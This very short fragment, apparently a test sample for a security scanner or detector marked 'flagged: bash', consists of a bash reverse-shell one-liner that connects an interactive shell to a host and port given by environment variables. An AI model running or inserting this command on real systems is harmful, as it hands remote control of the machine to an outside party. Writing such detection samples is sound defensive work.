# flagged: bash
timeout 0.5 bash --norc -c 'bash --norc -i >& "/dev/tcp/$RG_TCP_HOST/$RG_TCP_PORT" 0>&1'
